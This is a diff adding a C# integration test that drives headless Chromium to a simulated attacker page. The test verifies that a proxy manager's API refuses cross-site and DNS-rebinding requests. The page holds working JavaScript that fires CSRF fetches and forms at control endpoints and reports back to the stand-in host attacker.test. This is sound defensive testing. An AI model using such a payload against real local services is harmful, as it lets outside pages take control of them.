@@ -1,0 +1,241 @@
+using System.Diagnostics;
+using System.Net;
+using System.Text;
+using WunderProxy.IntegrationTests.Infrastructure;
+
+namespace WunderProxy.IntegrationTests.EndToEnd;
+
+/// <summary>
+/// A real browser on this machine is led to a page of somebody else, which tries to change things through the manager
+/// API: from another origin by scripts and forms, and as its own origin after its name was rebound to this machine.
+/// </summary>
+internal sealed class ReboundPageTests
+{
+    private static readonly string[] Paths = ["/switch", "/launch", "/deploy", "/rollback", "/pause", "/drain"];
+
+    private static readonly string[] BrowserOptions =
+    [
+        "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
+        "--disable-background-networking", "--disable-component-update", "--host-resolver-rules=MAP attacker.test 127.0.0.1",
+    ];
+
+    [Test]
+    public async Task Page_can_change_nothing()
+    {
+        await using var service = await TestService.StartNewAsync(StoreKind.Folder, "r1", "r2");
+        await service.DeployAsync(LaunchConfigText.Of("r1"));
+        var other = await service.StoreConfigAsync(LaunchConfigText.Of("r2"));
+        var before = await WhatCountsAsync(service);
+        await using var attacker = new AttackerServer();
+        await using var rebound = new TcpGate(attacker.Address);
+        attacker.Page = PageOf(attacker.Address.Port, service.Api.Port, other);
+        attacker.OnRebind = () => rebound.LeadTo(new Uri($"http://{service.Api}"));
+
+        await BrowseAsync(((IPEndPoint)rebound.EndPoint).Port, attacker.Done);
+
+        Assert.That(await WhatCountsAsync(service), Is.EqualTo(before), attacker.Said);
+        foreach (var path in Paths)
+        {
+            // Three names of the API by script, one form, and two ways after the rebinding.
+            var refused = LinesOf(service, path).Count(line => line.Contains(": 403 forbidden", StringComparison.Ordinal));
+            Assert.That(refused, Is.EqualTo(6), $"{path}\n{attacker.Said}\n{service.Process!.Errors}");
+            Assert.That(attacker.Said, Does.Contain($"rebound {path} 403").And.Contain($"rebound with fields {path} 403"));
+        }
+
+        var taken = Paths.SelectMany(path => LinesOf(service, path)).Where(line => !line.Contains(": 403 forbidden", StringComparison.Ordinal));
+        Assert.That(taken.ToArray(), Has.Length.EqualTo(1).And.All.Contains("POST /deploy: 200"), "only the test's own deploy");
+
+        // The same calls of a program on this machine are taken: it is the browser that is refused.
+        Assert.That((await service.PostAsync("/pause")).Status, Is.EqualTo(200));
+        Assert.That((await service.PostAsync("/resume")).Status, Is.EqualTo(200));
+    }
+
+    private static async Task BrowseAsync(int port, Task done)
+    {
+        var profile = Directory.CreateTempSubdirectory("wunderproxy-browser-");
+        var start = new ProcessStartInfo(
+            "chromium", [.. BrowserOptions, $"--user-data-dir={profile.FullName}", $"http://attacker.test:{port}/"])
+        {
+            UseShellExecute = false,
+            RedirectStandardOutput = true,
+            RedirectStandardError = true,
+        };
+        using var browser = Process.Start(start)!;
+        var noise = Task.WhenAll(browser.StandardOutput.ReadToEndAsync(), browser.StandardError.ReadToEndAsync());
+        try
+        {
+            await done.WaitAsync(TimeSpan.FromSeconds(90));
+        }
+        finally
+        {
+            browser.Kill(entireProcessTree: true);
+            await browser.WaitForExitAsync();
+            await noise;
+            await DeleteAsync(profile);
+        }
+    }
+
+    /// <summary>Processes of the browser that are about to end still write there.</summary>
+    private static Task DeleteAsync(DirectoryInfo profile) => Eventually.TrueAsync("the end of the browser", () =>
+    {
+        try
+        {
+            profile.Delete(recursive: true);
+            return true;
+        }
+        catch (IOException)
+        {
+            return false;
+        }
+    });
+
+    private static string[] LinesOf(TestService service, string path) =>
+        [.. service.Process!.Errors.Split('\n').Where(line => line.Contains($": POST {path}: ", StringComparison.Ordinal))];
+
+    private static async Task<string> WhatCountsAsync(TestService service)
+    {
+        var status = await service.StatusAsync();
+        return string.Join(
+            '\n',
+            status["Status"],
+            status["Upstream"],
+            (await service.GetAsync("/containers")).Text,
+            (await service.GetAsync("/history")).Text,
+            await service.ServedRevisionAsync());
+    }
+
+    private static string PageOf(int reports, int api, string hash)
+    {
+        var paths = string.Join(',', Paths.Select(path => $"'{path}'"));
+        return $$$"""
+            <!doctype html><title>harmless</title><iframe name=sink></iframe><script>
+            const paths = [{{{paths}}}], hash = '{{{hash}}}';
+            const tell = text => fetch('http://attacker.test:{{{reports}}}/said', {method: 'POST', mode: 'no-cors', body: text});
+            const send = async (name, url, init) => {
+              try { const r = await fetch(url, {method: 'POST', body: hash, ...init}); await tell(name + ' ' + (r.status || r.type)); }
+              catch (e) { await tell(name + ' failed: ' + e); }
+            };
+            const submit = url => new Promise(done => {
+              const form = document.createElement('form'), sink = document.querySelector('iframe');
+              Object.assign(form, {method: 'post', enctype: 'text/plain', action: url, target: 'sink'});
+              const input = document.createElement('input');
+              Object.assign(input, {name: hash, value: ''});
+              form.append(input);
+              document.body.append(form);
+              sink.onload = done;
+              form.submit();
+            });
+            (async () => {
+              for (const path of paths) {
+                for (const host of ['127.0.0.1', 'localhost', 'attacker.test']) {
+                  await send('script ' + host + path, 'http://' + host + ':{{{api}}}' + path, {mode: 'no-cors'});
+                }
+                await submit('http://127.0.0.1:{{{api}}}' + path);
+                await tell('form ' + path);
+              }
+              await fetch('http://attacker.test:{{{reports}}}/rebind', {method: 'POST', mode: 'no-cors'});
+              for (const path of paths) {
+                await send('rebound ' + path, path, {});
+                await send('rebound with fields ' + path, path, {headers: {'Authorization': 'Bearer guess', 'Content-Type': 'application/json'}});
+              }
+              await tell('done');
+            })();
+            </script>
+            """;
+    }
+
+    /// <summary>Serves the page, hears what it says, and rebinds its name when it asks.</summary>
+    private sealed class AttackerServer : IAsyncDisposable
+    {
+        private readonly HttpListener _listener = new();
+        private readonly TaskCompletionSource _done = new(TaskCreationOptions.RunContinuationsAsynchronously);
+        private readonly StringBuilder _said = new();
+        private readonly Task _serving;
+
+        public AttackerServer()
+        {
+            var port = WunderProxyProcess.FreeEndPoint().Port;
+            Address = new Uri($"http://127.0.0.1:{port}");
+            _listener.Prefixes.Add($"http://*:{port}/");
+            _listener.Start();
+            _serving = ServeAsync();
+        }
+
+        public Uri Address { get; }
+
+        public string Page { get; set; } = "";
+
+        public Action OnRebind { get; set; } = () => { };
+
+        public Task Done => _done.Task;
+
+        public string Said
+        {
+            get
+            {
+                lock (_said)
+                {
+                    return _said.ToString();
+                }
+            }
+        }
+
+        public async ValueTask DisposeAsync()
+        {
+            _listener.Close();
+            await _serving;
+        }
+
+        private async Task ServeAsync()
+        {
+            while (true)
+            {
+                try
+                {
+                    await AnswerAsync(await _listener.GetContextAsync());
+                }
+                catch (Exception fault) when (fault is HttpListenerException or ObjectDisposedException)
+                {
+                    if (!_listener.IsListening)
+                    {
+                        return;
+                    }
+                }
+            }
+        }
+
+        private async Task AnswerAsync(HttpListenerContext context)
+        {
+            using var reader = new StreamReader(context.Request.InputStream);
+            var body = await reader.ReadToEndAsync();
+            switch (context.Request.Url!.AbsolutePath)
+            {
+                case "/rebind":
+                    OnRebind();
+                    break;
+                case "/said":
+                    Hear(body);
+                    break;
+            }
+
+            // The name is looked up anew for each connection, so the page's own must not stay open.
+            context.Response.KeepAlive = false;
+            context.Response.ContentType = "text/html";
+            await context.Response.OutputStream.WriteAsync(Encoding.UTF8.GetBytes(Page));
+            context.Response.Close();
+        }
+
+        private void Hear(string text)
+        {
+            lock (_said)
+            {
+                _said.AppendLine(text);
+            }
+
+            if (text == "done")
+            {
+                _done.TrySetResult();
+            }
+        }
+    }
+}
